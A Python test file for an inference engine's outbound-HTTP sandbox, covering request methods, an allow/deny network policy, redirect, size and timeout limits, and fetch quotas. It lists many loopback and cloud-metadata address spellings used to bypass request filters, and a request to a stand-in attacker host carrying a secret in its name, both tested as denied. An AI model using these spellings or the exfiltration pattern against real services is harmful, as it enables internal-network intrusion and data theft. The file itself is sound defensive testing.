"""Outgoing HTTP from an inferlet against a local server: methods, headers and bodies, the
network policy (a denied address, a redirect into one, an allowed name that resolves into a
denied block), and the limits (size, time, redirects). Denied requests never reach the server."""

from __future__ import annotations

import http.server
import json
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import parse_qs, urlsplit

import pytest
import trio

from pie.actors.http import HttpActor
from pie.actors.runtime import Router
from pie.config import ConfigError, EngineConfig, config_from_dict, with_overrides
from pie.drivers.synthetic import SyntheticDriver
from pie.drivers.tokenizer import Tokenizer
from pie.engine import open_engine
from pie.events.http import HttpFetch, HttpFetched
from pie.events.kv import RequestFailed
from pie.net.fetch import Fetcher, FetchError, Limits, Response, _parse
from pie.net.policy import NetworkPolicy, PolicyError, parse_address
from pie.net.quota import FetchAdmission, FetchQuota
from tests.inferlet_fixtures import GUESTS
from tests.inferlet_fixtures import build_inferlet as built  # noqa: F401  (fixture)
from tests.model_fixtures import default_model_dir  # noqa: F401  (fixture)


class LocalServer(NamedTuple):
    base: str
    """http://127.0.0.1:PORT"""
    hits: Counter[str]
    """Requests served, by path."""
    release: threading.Event
    """Lets every request to /hold answer."""


class _Handler(http.server.BaseHTTPRequestHandler):
    hits: Counter[str]
    release: threading.Event

    def log_message(self, *args: Any) -> None:
        pass

    def _answer(self) -> None:
        parts = urlsplit(self.path)
        self.hits[parts.path] += 1
        query = parse_qs(parts.query)
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length) if length else b""
        if parts.path == "/redirect":
            self.send_response(int(query.get("code", ["302"])[0]))
            self.send_header("location", query["to"][0])
            self.send_header("content-length", "0")
            self.end_headers()
            return
        if parts.path == "/big":
            payload = b"x" * int(query["n"][0])
        elif parts.path == "/slow":
            time.sleep(float(query["s"][0]))
            payload = b"late"
        elif parts.path == "/hold":
            self.release.wait(30)
            payload = b"released"
        else:
            echo = {
                "method": self.command,
                "path": self.path,
                "headers": {k.lower(): v for k, v in self.headers.items()},
                "body": body.decode(),
            }
            payload = json.dumps(echo).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(payload)))
        self.end_headers()
        try:
            self.wfile.write(payload)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the client gave up (a timeout or a size limit)

    do_GET = do_POST = do_PUT = do_DELETE = _answer


@pytest.fixture
def server() -> Iterator[LocalServer]:
    hits: Counter[str] = Counter()
    release = threading.Event()
    handler = type("Handler", (_Handler,), {"hits": hits, "release": release})
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    httpd.daemon_threads = True
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield LocalServer(f"http://127.0.0.1:{httpd.server_address[1]}", hits, release)
    finally:
        release.set()
        httpd.shutdown()
        httpd.server_close()


@pytest.fixture(scope="module")
def fetcher_wasm(built: Callable[[Path], Path]) -> bytes:  # noqa: F811
    return built(GUESTS / "fetcher").read_bytes()


async def _run(
    tokenizer: Tokenizer, wasm: bytes, tmp_path: Path, requests: list[dict[str, Any]], **net: Any
) -> list[dict[str, Any]]:
    network = {"allow": ("127.0.0.1",), "timeout_seconds": 5.0, **net}
    config = with_overrides(EngineConfig(), sandbox={"cache_dir": str(tmp_path)}, network=network)
    driver = SyntheticDriver(vocab_size=tokenizer.vocab_size)
    async with open_engine(config, driver=driver, tokenizer=tokenizer) as engine:
        program = engine.programs.add(wasm, name="fetcher").hash
        outcome = await engine.run_inferlet(program, json.dumps({"requests": requests}))
        assert outcome.ok, outcome.error
        stats = engine.statistics().http
        assert stats.running == 0 and stats.requests == len(requests)
        return json.loads(outcome.result)


@pytest.mark.integration
async def test_requests_carry_methods_headers_and_bodies(
    server: LocalServer, fetcher_wasm: bytes, tokenizer: Tokenizer, tmp_path: Path
) -> None:
    base, hits, _ = server
    got = await _run(
        tokenizer,
        fetcher_wasm,
        tmp_path,
        [
            {"url": f"{base}/echo?q=1", "headers": {"x-token": "abc"}},
            {"url": f"{base}/echo", "method": "POST", "body": "hello"},
            {"url": f"{base}/echo", "method": "PUT", "body": "é"},
        ],
    )
    first, second, third = (json.loads(r["body"]) for r in got)
    assert all(r["status"] == 200 for r in got)
    assert first["method"] == "GET" and first["path"] == "/echo?q=1"
    assert first["headers"]["x-token"] == "abc"
    assert second["method"] == "POST" and second["body"] == "hello"
    assert third["method"] == "PUT" and third["body"] == "é"
    assert got[0]["headers"]["content-type"] == "application/json"
    assert hits["/echo"] == 3


@pytest.mark.integration
async def test_the_policy_refuses_before_anything_is_sent(
    server: LocalServer, fetcher_wasm: bytes, tokenizer: Tokenizer, tmp_path: Path
) -> None:
    base, hits, _ = server
    port = base.rsplit(":", 1)[1]
    denied_target = f"http://127.0.0.2:{port}/echo"
    got = await _run(
        tokenizer,
        fetcher_wasm,
        tmp_path,
        [
            {"url": denied_target},
            {"url": f"{base}/redirect?to={denied_target}"},
            {"url": f"{base}/redirect?to=/echo%3Fafter%3D1"},
            {"url": f"{base}/redirect?to=/echo", "max_redirects": 0},
            {"url": "ftp://127.0.0.1/file"},
            {"url": f"{base}/echo", "method": "BREW"},
        ],
    )
    assert got[0]["error"] == "denied" and "127.0.0.2" in got[0]["message"]
    assert got[1]["error"] == "denied"
    assert got[2]["status"] == 200 and got[2]["url"] == f"{base}/echo?after=1"
    assert got[3]["status"] == 302 and got[3]["headers"]["location"] == "/echo"
    assert got[4]["error"] == "invalid" and got[5]["error"] == "invalid"
    # The allowed redirects reached the server; nothing was sent towards 127.0.0.2.
    assert hits["/redirect"] == 3 and hits["/echo"] == 1


@pytest.mark.integration
async def test_size_time_and_redirect_limits(
    server: LocalServer, fetcher_wasm: bytes, tokenizer: Tokenizer, tmp_path: Path
) -> None:
    base, _, _ = server
    loop = f"{base}/redirect?to=/redirect%3Fto%3D/echo"
    got = await _run(
        tokenizer,
        fetcher_wasm,
        tmp_path,
        [
            {"url": f"{base}/big?n=5000"},
            {"url": f"{base}/big?n=20000"},
            {"url": f"{base}/slow?s=3", "timeout": 0.3},
            {"url": loop, "max_redirects": 1},
            {"url": loop},
        ],
        max_response_mb=0.01,
        max_redirects=3,
    )
    assert got[0]["status"] == 200 and len(got[0]["body"]) == 5000
    assert got[1]["error"] == "too-large"
    assert got[2]["error"] == "timeout"
    assert got[3]["error"] == "protocol" and "redirects" in got[3]["message"]
    assert got[4]["status"] == 200


@pytest.mark.integration
async def test_an_allowed_name_cannot_lead_into_a_denied_block(
    server: LocalServer,
) -> None:
    base, hits, _ = server
    port = base.rsplit(":", 1)[1]
    limits = Limits(timeout_seconds=5, max_response_bytes=1 << 20, max_redirects=2)
    # Loopback is reserved: an allowed name reaches it only where an address entry opens it.
    opened = ["localhost", "127.0.0.1", "::1"]
    allowed = Fetcher(NetworkPolicy.parse(opened), limits, max_connections=4)
    denied = Fetcher(
        NetworkPolicy.parse(opened, ["127.0.0.0/8", "::1/128"]), limits, max_connections=4
    )
    try:
        response = await allowed.fetch("GET", f"http://localhost:{port}/echo", [], b"")
        assert response.status == 200
        with pytest.raises(FetchError) as refused:
            await denied.fetch("GET", f"http://localhost:{port}/echo", [], b"")
        assert refused.value.kind == "denied"
    finally:
        await allowed.aclose()
        await denied.aclose()
    assert hits["/echo"] == 1


@pytest.mark.unit
def test_policy_entries() -> None:
    policy = NetworkPolicy.parse(
        ["10.0.0.0/8", "192.168.1.7", "::1", "api.example.com", "*.corp.example"],
        ["10.9.0.0/16"],
    )
    import ipaddress

    def address(text: str) -> Any:
        return ipaddress.ip_address(text)

    assert policy.allows_address(address("10.1.2.3"), origin="literal")
    assert not policy.allows_address(address("10.9.0.1"), origin="literal")
    assert not policy.allows_address(address("10.9.0.1"), origin="allowed-name")
    assert policy.allows_address(address("192.168.1.7"), origin="literal")
    assert not policy.allows_address(address("192.168.1.8"), origin="literal")
    assert policy.allows_address(address("::1"), origin="literal")
    assert not policy.allows_address(address("::ffff:10.9.0.1"), origin="allowed-name")
    assert policy.allows_address(address("8.8.8.8"), origin="allowed-name")
    assert not policy.allows_address(address("8.8.8.8"), origin="other-name")
    assert policy.allows_name("API.example.com.") and policy.allows_name("a.b.corp.example")
    assert not policy.allows_name("corp.example") and not policy.allows_name("example.com")
    with pytest.raises(PolicyError):
        NetworkPolicy.parse(["not a host"])
    with pytest.raises(PolicyError):
        NetworkPolicy.parse([], ["example.com"])


@pytest.mark.unit
def test_bad_network_config_is_refused_with_its_key() -> None:
    with pytest.raises(ConfigError, match="network.allow"):
        config_from_dict({"network": {"allow": ["bad host!"]}})
    with pytest.raises(ConfigError, match="network.deny"):
        config_from_dict({"network": {"deny": ["example.com"]}})
    assert config_from_dict({"network": {"allow": ["*.example.com"]}}).network.allow == (
        "*.example.com",
    )


_EXAMPLE = NetworkPolicy.parse(
    ["0.0.0.0/0", "::/0"], ["127.0.0.0/8", "169.254.0.0/16", "::1/128", "fe80::/10"]
)


@pytest.mark.unit
@pytest.mark.parametrize(
    "host",
    [
        "0.0.0.0",
        "0",
        "0.1.2.3",
        "[::]",
        "127.1",
        "2130706433",
        "0x7f.0.0.1",
        "0177.0.0.1",
        "0x7f000001",
        "[::ffff:127.0.0.1]",
        "[::ffff:0.0.0.0]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "[fe80::1%25eth0]",
        "169.254.169.254",
    ],
)
def test_every_spelling_of_this_host_is_denied_with_loopback(host: str) -> None:
    address = parse_address(_parse(f"http://{host}/").hostname or "")
    assert address is not None
    assert not _EXAMPLE.allows_address(address, origin="literal")


@pytest.mark.unit
def test_reserved_blocks_open_only_to_an_address_entry_inside_them() -> None:
    import ipaddress

    def allows(policy: NetworkPolicy, text: str, origin: Any = "literal") -> bool:
        return policy.allows_address(ipaddress.ip_address(text), origin=origin)

    assert allows(_EXAMPLE, "93.184.215.14") and allows(_EXAMPLE, "2606:4700::1111")
    for private in ("10.0.0.1", "172.16.5.4", "192.168.0.1", "100.64.0.1", "224.0.0.1"):
        assert not allows(_EXAMPLE, private)
    for private in ("255.255.255.255", "[fc00::1]", "ff02::1", "::ffff:10.0.0.1"):
        assert not allows(_EXAMPLE, private.strip("[]"))
    local = NetworkPolicy.parse(["127.0.0.1", "10.1.0.0/16", "*.corp.example"])
    assert allows(local, "127.0.0.1") and allows(local, "10.1.2.3")
    assert not allows(local, "127.0.0.2") and not allows(local, "10.2.0.1")
    assert not allows(local, "0.0.0.0")  # reaches loopback, and is not opened itself
    assert allows(local, "10.1.2.3", "allowed-name")
    assert not allows(local, "10.1.2.3", "other-name")  # a made-up name never leads inside
    assert not allows(NetworkPolicy.parse(["*.corp.example"]), "10.1.2.3", "allowed-name")
    assert not allows(NetworkPolicy.parse(["127.0.0.1"], ["127.0.0.0/8"]), "127.0.0.1")
    assert not local.may_resolve("made-up.example") and local.may_resolve("a.corp.example")
    assert _EXAMPLE.may_resolve("made-up.example")


@pytest.mark.unit
def test_urls_go_out_in_ascii() -> None:
    assert _parse("http://Éxample.com:8/é?q=ü").geturl() == (
        "http://xn--xample-9ua.com:8/%C3%A9?q=%C3%BC"
    )
    assert _parse("http://u:p@[::1]/a%20b").geturl() == "http://u:p@[::1]/a%20b"
    for bad in ("http://" + "é" * 70 + ".com/", "http://exa mple.com/", "http://a\x00b/"):
        with pytest.raises(FetchError) as refused:
            _parse(bad)
        assert refused.value.kind == "invalid"


@pytest.mark.unit
def test_fetch_admission_counts_per_inferlet_and_per_user() -> None:
    admission = FetchAdmission(FetchQuota(per_inferlet=2, per_user=3))
    assert admission.admit("a", "ann") is None and admission.admit("a", "ann") is None
    assert "max_fetches_per_inferlet" in (admission.admit("a", "ann") or "")
    assert admission.admit("b", "ann") is None
    assert "max_fetches_per_user" in (admission.admit("c", "ann") or "")
    assert admission.admit("d", "bob") is None
    admission.release("a", "ann")
    assert admission.in_flight("a") == 1 and admission.admit("c", "ann") is None


@pytest.mark.integration
async def test_a_name_no_entry_could_admit_is_never_looked_up(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    looked_up: list[str] = []

    async def resolver(host: Any, *args: Any, **kwargs: Any) -> Any:
        looked_up.append(host)
        raise OSError("no resolver in this test")

    monkeypatch.setattr(trio.socket, "getaddrinfo", resolver)
    limits = Limits(timeout_seconds=5, max_response_bytes=1 << 20, max_redirects=2)
    for allow in ([], ["127.0.0.1", "10.0.0.0/8", "api.example.com"]):
        fetcher = Fetcher(NetworkPolicy.parse(allow), limits, max_connections=4)
        try:
            with pytest.raises(FetchError) as refused:
                await fetcher.fetch("GET", "http://secret-1234.attacker.example/", [], b"")
            assert refused.value.kind == "denied"
        finally:
            await fetcher.aclose()
    assert looked_up == []
    fetcher = Fetcher(NetworkPolicy.parse(["api.example.com"]), limits, max_connections=4)
    try:
        with pytest.raises(FetchError) as refused:
            await fetcher.fetch("GET", "http://api.example.com/", [], b"")
        assert refused.value.kind == "unreachable"
    finally:
        await fetcher.aclose()
    assert looked_up == ["api.example.com"]


class _FailingFetcher:
    policy = NetworkPolicy()

    async def fetch(self, method: str, url: str, *args: Any, **kwargs: Any) -> Response:
        if url == "http://fails/":
            raise RuntimeError("a surprise inside the HTTP library")
        return Response(status=200, url=url, headers=(), body=b"ok")

    async def aclose(self) -> None:
        pass


@pytest.mark.integration
async def test_an_unforeseen_failure_fails_that_request_alone() -> None:
    router = Router()
    replies = router.register("inferlet-1", HttpFetched | RequestFailed)
    quota = FetchQuota(per_inferlet=4, per_user=4)
    actor = HttpActor(_FailingFetcher(), router, quota)  # type: ignore[arg-type]

    def request(corr: int, url: str) -> HttpFetch:
        return HttpFetch(
            corr=corr, requester="inferlet-1", method="GET", url=url, headers=(), body=b""
        )

    with trio.fail_after(5):
        async with trio.open_nursery() as nursery:
            await nursery.start(actor.run)
            await router.send("test", "http", request(1, "http://fails/"))
            _, failed = await replies.receive()
            await router.send("test", "http", request(2, "http://works/"))
            _, served = await replies.receive()
            router.unregister("http")
    assert isinstance(failed, RequestFailed) and failed.kind == "internal" and failed.corr == 1
    assert isinstance(served, HttpFetched) and served.body == b"ok" and served.corr == 2
    stats = actor.statistics()
    assert stats.running == 0 and stats.failures == 1 and stats.responses == 1
